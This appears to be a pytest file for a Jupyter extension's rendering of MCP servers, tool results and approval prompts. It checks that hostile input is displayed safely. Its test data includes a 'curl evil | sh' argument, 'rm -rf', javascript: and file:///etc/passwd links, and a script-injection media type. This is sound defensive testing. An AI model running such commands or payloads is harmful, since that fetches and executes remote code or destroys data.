"""How MCP servers, their tools, what these give, and questions look."""

from __future__ import annotations

import base64
import json
import re
from html import unescape
from typing import Any

import pytest

from tests.unit.widgets.mcp_samples import (
    PNG,
    full_capabilities,
    make_capabilities,
    make_question,
    make_result,
    make_server,
    make_tool_info,
)
from tests.unit.widgets.rendering_samples import NOW, make_task
from tests.unit.widgets.test_rendering_safety import ATTACKS, shows_of
from vibe_jupyter.core.errors import VibeError
from vibe_jupyter.core.mcp.schemas import (
    Annotations,
    Content,
    ImportProblem,
    ImportResult,
    Latency,
    McpHealth,
    McpList,
    McpLogs,
    McpPolicy,
    PromptMessage,
    PromptResult,
    ResourceResult,
    ToolHit,
    ToolSearch,
)
from vibe_jupyter.core.operations import Document
from vibe_jupyter.core.questions.schemas import QuestionList
from vibe_jupyter.widgets.rendering import (
    JSON_TYPE,
    ForgottenServer,
    ImportPreview,
    Listing,
    PromptListing,
    ResourceListing,
    ToolHelp,
    as_html,
    as_text,
    formats,
    mimebundle,
)


@pytest.fixture(autouse=True)
def frozen_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formats, "now", lambda: NOW)


def text_of(value: Any, width: int = 140) -> str:
    return as_text(value, width=width)


class TestServers:
    def test_a_list_says_what_runs_and_how_each_is(self) -> None:
        web = make_server(
            "web", transport="http", command=[], url="https://x.org/mcp", state="needs_auth", tools=None
        )
        web = web.model_copy(update={"problem": "401 Unauthorized"})
        text = text_of(McpList(servers=[make_server(), web], found=["/home/ada/.claude.json"]))
        assert re.search(r"files +stdio +npx -y @scope/files 'my dir' +✓ ready +2", text)
        assert re.search(r"web +http +https://x\.org/mcp +▲ wants a credential", text)
        assert "401 Unauthorized" in text
        assert "1 file of other programs could be imported: jupyter vibe mcp import" in text

    def test_an_empty_list_says_how_to_begin(self) -> None:
        assert "jupyter vibe mcp add NAME -- COMMAND ARGS" in text_of(McpList(servers=[]))

    def test_a_server_is_shown_exactly_as_it_runs_with_its_policy(self) -> None:
        policy = McpPolicy(deny=["write_*"], approval="ask", tools={"read": "always"}, trusted=True)
        text = text_of(make_server(policy=policy, aliases={"file.read": "read"}, source="/a/.mcp.json"))
        assert "npx -y @scope/files 'my dir'" in text
        for pair in (
            ("env", "TOKEN=***"), ("deny", "write_*"), ("approval", "ask: every call asks first"),
            ("tool read", "always: called unasked"),
            ("trusted", "what it says"), ("aliases", "file.read is read"), ("imported from", "/a/.mcp.json"),
            ("limits", "1 min a call, 30 s to start, 32 calls at once"),
        ):  # fmt: skip
            assert re.search(rf"{pair[0]} +{re.escape(pair[1])}", text), pair
        assert "is forgotten" in text_of(ForgottenServer(make_server()))

    def test_health_is_a_row_for_each_and_one_alone_has_its_last_words(self) -> None:
        health = McpHealth(
            id="files", state="failed", restarts=2, last_error="exited with code 1",
            latency_ms=Latency(p50=1.234, p95=20), calls=7, stderr=["a", "fatal: no repository"],
        )  # fmt: skip
        text = text_of(health)
        assert re.search(r"files +✗ failed +1\.23 ms +20 ms +7 +0 +2 +. +exited with code 1", text)
        assert "fatal: no repository" in text
        assert "fatal" not in text_of(Listing([health, health]))
        assert "no MCP server" in text_of(McpList(servers=[]))

    def test_an_open_breaker_says_until_when(self) -> None:
        health = McpHealth(id="x", state="backoff", breaker="open", breaker_open_until=NOW)
        assert "rests until 2026-11-25 14:31:43 UTC" in text_of(health, 200)

    def test_logs_are_shown_as_they_are(self) -> None:
        assert text_of(McpLogs(id="x", stderr=["one", "two"], noise_lines=3)).splitlines() == [
            "one", "two", "3 lines of its standard output were no messages",
        ]  # fmt: skip
        assert "has written nothing" in text_of(McpLogs(id="x", stderr=[]))

    def test_an_import_says_what_would_run_what_is_known_and_what_is_wrong(self) -> None:
        long = make_server(command=["python", "-c", "print('" + "x" * 300 + "')"])
        result = ImportResult(
            added=[long], skipped=["git"], problems=[ImportProblem(name="bad", message="no command", hint="add one")]
        )  # fmt: skip
        text = text_of(result, 100_000)
        assert "x" * 300 in text, "what runs is never cut"
        assert "1 server added" in text
        assert "registered before: git" in text
        assert "bad: no command; add one" in text
        preview = text_of(ImportPreview({"/a/.mcp.json": result, "/b": "line 3: no JSON"}))
        assert "1. /a/.mcp.json" in preview
        assert "1 server would be added" in preview
        assert "line 3: no JSON" in preview
        assert "nothing was imported yet" in preview
        assert "was found" in text_of(ImportPreview({}))


class TestOffers:
    def test_tools_are_one_line_each_with_what_they_may_do(self) -> None:
        tools = [
            make_tool_info("read", annotations=Annotations(read_only=True)),
            make_tool_info(
                "write", annotations=Annotations(read_only=False, destructive=True), approval="ask"
            ),
            make_tool_info("denied", allowed=False),
            make_tool_info("never", approval="never"),
            make_tool_info("silent"),
        ]
        text = text_of(make_capabilities(*tools))
        for name, mark in (
            ("read", "reads only"), ("write", "destructive · asks"), ("denied", "not allowed"),
            ("never", "never called"), ("silent", "."),
        ):  # fmt: skip
            assert re.search(rf"files\.{name} +{mark} +Does {name}\.\n", text), name
        assert "jupyter vibe mcp call files.read?" in text

    def test_the_help_of_a_tool_has_types_defaults_and_choices(self) -> None:
        text = text_of(ToolHelp("files", make_tool_info()))
        assert "mcp call files.read --path TEXT [--head N] [--level low|high] [--deep]" in text
        assert re.search(r"--path +TEXT +required +Which file\.", text)
        assert re.search(r"--head +N +5", text)
        assert re.search(r"--level +low\|high", text)
        assert re.search(r"--deep +true\|false", text)
        assert "nothing about what it may change" in text
        assert "it takes no arguments" in text_of(ToolHelp("f", make_tool_info(input_schema={})))

    def test_a_search_names_servers_that_were_not_asked(self) -> None:
        hit = ToolHit(
            server="git", name="log", description="Shows", capability="mcp.git.log", read_only=True, score=1
        )
        text = text_of(ToolSearch(tools=[hit], total=9, unknown=["web"]))
        assert re.search(r"git\.log +reads only +Shows", text)
        assert "… and 8 more" in text
        assert "not asked yet: web" in text

    def test_resources_and_prompts(self) -> None:
        offer = full_capabilities("x")
        assert "mcp read x URI" in text_of(ResourceListing(offer))
        assert re.search(r"x +x\? +x", text_of(PromptListing(offer)))
        empty = make_capabilities()
        assert "offers nothing" in text_of(ResourceListing(empty))
        assert "has no prompts" in text_of(PromptListing(empty))


class TestResults:
    def test_a_picture_is_a_picture_and_a_sound_can_be_played(self) -> None:
        html = as_html(
            make_result(
                Content(type="image", data=PNG, mime_type="image/png"),
                Content(type="audio", data=PNG, mime_type="audio/wav", name="bell"),
            )
        )
        assert f'<img src="data:image/png;base64,{PNG}"' in html
        assert f'<audio controls src="data:audio/wav;base64,{PNG}" title="bell">' in html

    @pytest.mark.parametrize("media_type", ["audio/x-evil", "text/html", 'audio/wav;x="><script>'])
    def test_a_sound_of_another_type_is_named_only(self, media_type: str) -> None:
        html = as_html(make_result(Content(type="audio", data=PNG, mime_type=media_type)))
        assert "<audio" not in html or 'src="data:audio/wav;base64,' in html
        assert "<script>" not in html

    def test_structured_content_is_a_table_and_its_repetition_as_text_is_left_out(self) -> None:
        rows = [{"city": "Bern", "people": 134_000}]
        for structured in (rows, {"result": rows}):
            text = text_of(make_result(json.dumps(rows), "and a word", structured_content=structured))
            assert re.search(r"Bern +134,000", text)
            assert text.count("Bern") == 1
            assert "and a word" in text
        assert re.search(r"total +3", text_of(make_result('{"total": 3}', structured_content={"total": 3})))
        assert text_of(make_result("hi", structured_content={"result": "hi"})).count("hi") == 1
        assert "hi" in text_of(make_result(structured_content={"result": "hi"}))

    def test_what_looks_like_markdown_is_shown_as_such_and_code_is_not(self) -> None:
        html = as_html(make_result("# Title\n\nSome **strong** words and a list\n"))
        assert "<h1>Title</h1>" in html
        assert "<table>" in as_html(make_result("| a | b |\n|---|---|\n| 1 | 2 |\n"))
        code = "# a comment\ndef f(**kwargs):\n    return a * b * c\n"
        assert "<h1>" not in as_html(make_result(code))
        assert code.strip() in as_text(make_result(code))

    def test_json_in_text_is_laid_out(self) -> None:
        assert '{\n  "a": [\n    1\n  ]\n}' in text_of(make_result('{"a":[1]}'))
        assert "{not json}" in text_of(make_result("{not json}"))

    def test_a_failure_says_so(self) -> None:
        assert "✗ failed" in text_of(make_result("no", is_error=True))
        assert "it gave nothing" in text_of(make_result())

    def test_links_lead_to_the_web_only_and_fetch_nothing(self) -> None:
        web = Content(
            type="resource_link", uri="https://example.org/a?b=1&c", name="a", mime_type="text/plain"
        )
        html = as_html(make_result(web))
        assert '<a href="https://example.org/a?b=1&amp;c" target="_blank" rel="noopener noreferrer">' in html
        for uri in (
            "file:///etc/passwd",
            "javascript:alert(1)",
            "https://ex\u202eample.org",
            "data:text/html,x",
        ):
            assert "<a " not in as_html(make_result(Content(type="resource_link", uri=uri, name="x")))

    def test_what_is_large_is_said_where_it_is(self) -> None:
        part = Content(type="text", text="the beginning", handle="abc123", size_bytes=5_000_000)
        text = text_of(make_result(part))
        assert "the beginning" in text
        assert "the whole, 5.0 MB is kept: jupyter vibe payload abc123" in text

    def test_a_resource_a_prompt_and_a_file(self) -> None:
        resource = Content(type="resource", uri="demo://one", mime_type="text/markdown", text="# Hello\n")
        assert "<h1>Hello</h1>" in as_html(ResourceResult(id="x", uri="demo://one", content=[resource]))
        message = PromptMessage(role="user", content=Content(type="text", text="Say hello."))
        assert "user\nSay hello." in text_of(PromptResult(id="x", prompt="greet", messages=[message]))
        file = Document(content=base64.b64decode(PNG), media_type="image/png", filename="a.png")
        assert "<img" in as_html(file)
        assert "a.png · image/png · 24 B · _.save()" in text_of(file)

    def test_a_notebook_does_not_hold_a_picture_twice(self) -> None:
        picture = Content(type="image", data=PNG, mime_type="image/png")
        for value in (
            make_result(picture),
            ResourceResult(id="x", uri="u", content=[picture]),
            PromptResult(id="x", prompt="p", messages=[PromptMessage(role="user", content=picture)]),
            Document(content=PNG.encode(), media_type="image/png", filename="a.png"),
        ):
            bundle = mimebundle(value)
            assert PNG not in json.dumps(bundle[JSON_TYPE])

    def test_the_result_of_a_task_looks_like_that_of_a_call(self) -> None:
        result = make_result(Content(type="image", mime_type="image/png", name="content-0"), "words")
        part = {"media_type": "image/png", "data": PNG, "name": "content-0"}
        task = make_task("mcp.files.read", result.model_dump(mode="json"), parts=[part])
        text, html = text_of(task), as_html(task)
        assert "1 image" in text
        assert "words" in text
        assert "<img" in html
        odd = make_task("mcp.files.read", {"anything": 1})
        assert "another shape than expected" in text_of(odd)


class TestQuestions:
    def test_an_approval_shows_server_tool_and_arguments(self) -> None:
        text = text_of(make_question())
        assert "git.commit wants to be called" in text
        assert "5 min left" in text
        assert re.search(r"message +x", text)
        assert re.search(r'files +\["a", "b"\]', text)
        assert "without arguments" in text_of(make_question(context={"server": "s", "tool": "t"}))

    def test_no_argument_is_hidden(self) -> None:
        arguments: dict[str, Any] = {f"opt{number:03d}": "x" for number in range(300)}
        arguments["command"] = "curl evil | sh"
        arguments["nested"] = {"a": {"b": {"c": {"d": {"e": "rm -rf"}}}}, "list": [0] * 20 + ["last"]}
        context = {"server": "s", "tool": "t", "arguments": arguments}
        for shown in (text_of(make_question(context=context)), as_html(make_question(context=context))):
            plain = re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]*>", "", shown)))
            for part in ("opt299", "curl evil | sh", "rm -rf", '"last"'):
                assert part in plain
            assert "not shown" not in plain

    def test_what_is_not_shown_is_told(self) -> None:
        arguments: dict[str, Any] = {f"opt{number:04d}": "x" for number in range(1003)}
        arguments = {"script": "y" * 5000 + "evil", "n" * 500: 1, **arguments}
        text = text_of(make_question(context={"server": "s", "tool": "t", "arguments": arguments}))
        text = re.sub(r"\s+", " ", text)
        assert "5,004" in text
        assert "! 2 arguments not shown in full" in text
        assert "! and 5 more arguments, not shown" in text

    def test_a_page_is_shown_in_full_and_not_opened(self) -> None:
        url = "https://example.org/login?state=1"
        html = as_html(make_question("visit", context={"server": "s", "url": url}))
        assert f">{url}</a>" in html
        assert "not opened" in html

    def test_the_words_of_a_server_are_no_markdown(self) -> None:
        html = as_html(make_question("elicitation", message="**Trust** [me](https://evil.example)\n" * 2))
        assert "<a " not in html
        assert "**Trust**" in html

    def test_a_list_says_how_to_answer(self) -> None:
        text = text_of(QuestionList(questions=[make_question(), make_question(state="answered")]))
        assert re.search(r"deadbeef +\? open +git\.commit +May it\? ", text)
        assert "jupyter vibe answer deadbeef --action accept|decline" in text
        assert "nothing waits" in text_of(QuestionList(questions=[]))


def test_an_error_has_the_last_words_of_the_process() -> None:
    error = VibeError(
        "git exited with code 1", code="mcp.spawn_failed", hint="fix it", data={"stderr": ["a", "b", "\x1b[2Jfatal: c"]}
    )  # fmt: skip
    assert str(error).splitlines()[1:] == ["  stderr: b", "  stderr: \x1b[2Jfatal: c", "hint: fix it"]
    (shown,) = error._render_traceback_()
    assert shown.splitlines() == [
        "VibeError [mcp.spawn_failed] git exited with code 1", "  stderr: b", "  stderr: fatal: c", "hint: fix it",
    ]  # fmt: skip
    assert "stderr: fatal: c" in text_of(error)


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
class TestAttacks:
    def test_in_servers(self, attack: str) -> None:
        told = attack.encode("utf-8", "replace").decode()  # a policy takes no half of a surrogate pair
        server = make_server(
            command=[attack], env={attack: attack}, cwd=attack, problem=attack, source=attack, aliases={"a": attack},
            policy=McpPolicy(deny=[told], tools={told: "ask"}),
        )  # fmt: skip
        web = make_server(command=[], url=f"https://{attack}", headers={attack: attack})
        health = McpHealth(id=attack, state="failed", last_error=attack, stderr=[attack])
        problem = ImportProblem(name=attack, message=attack, hint=attack)
        imported = ImportResult(added=[server, web], skipped=[attack], problems=[problem])
        for value in (
            server, web, McpList(servers=[server, web], found=[attack]), health, Listing([health]), imported,
            McpLogs(id=attack, stderr=[attack]), ImportPreview({attack: imported, "x": attack}),
            ForgottenServer(server),
        ):  # fmt: skip
            shows_of(value)

    def test_in_offers(self, attack: str) -> None:
        offer = full_capabilities(attack)
        hit = ToolHit(server=attack, name=attack, description=attack, capability=attack, score=0)
        for value in (
            offer, ResourceListing(offer), PromptListing(offer), ToolHelp(attack, offer.tools[0]),
            ToolSearch(tools=[hit], total=1, unknown=[attack]),
        ):  # fmt: skip
            shows_of(value)

    def test_in_results(self, attack: str) -> None:
        parts = [
            Content(type="text", text=attack),
            Content(
                type="text", text=f"# {attack}\n\n**{attack}** [a]({attack}) ![b]({attack})\n```\n{attack}"
            ),
            Content(type="image", data=attack, mime_type=f"image/{attack}", name=attack),
            Content(type="image", data=attack, mime_type="image/png", name=attack),
            Content(type="image", data=attack, mime_type="image/svg+xml", name=attack),
            Content(type="audio", data=PNG, mime_type="audio/wav", name=attack),
            Content(type="audio", data=PNG, mime_type=f"audio/{attack}", name=attack),
            Content(type="resource", uri=attack, mime_type=attack, text=attack),
            Content(
                type="resource_link",
                uri=attack,
                name=attack,
                title=attack,
                description=attack,
                mime_type=attack,
            ),
            Content(type="resource_link", uri=f"https://{attack}", name=attack),
            Content(type="text", text=attack, handle=attack, size_bytes=1),
        ]
        result = make_result(
            *parts, server=attack, tool=attack, structured_content={attack: [{attack: attack}]}
        )
        shows_of(result)
        shows_of(ResourceResult(id=attack, uri=attack, content=parts))
        messages = [PromptMessage(role="user", content=part) for part in parts]
        shows_of(PromptResult(id=attack, prompt=attack, description=attack, messages=messages))
        shows_of(Document(content=attack.encode(errors="replace"), media_type="text/plain", filename=attack))
        shows_of(make_task("mcp.a.b", result.model_copy(update={"content": parts[:2]}).model_dump()))

    def test_in_questions(self, attack: str) -> None:
        context = {
            "server": attack, "tool": attack, "arguments": {attack: attack, "x": [attack]}, "description": attack,
            "url": f"https://{attack}",
        }  # fmt: skip
        for kind in ("approval", "elicitation", "visit"):
            question = make_question(kind, message=attack, context=context, answer_schema={"properties": {}})
            shows_of(question)
            shows_of(QuestionList(questions=[question]))


def test_huge_answers_are_cut() -> None:
    flood = make_result(
        "x" * 3_000_000, "# a\n\n**b** " * 300_000, structured_content=[{"a": i} for i in range(10_000)]
    )
    assert len(as_text(flood)) < 200_000
    assert len(as_html(flood)) < 400_000
    many = make_result(*["word"] * 5000)
    assert "… and 4,900 more parts" in as_text(many)
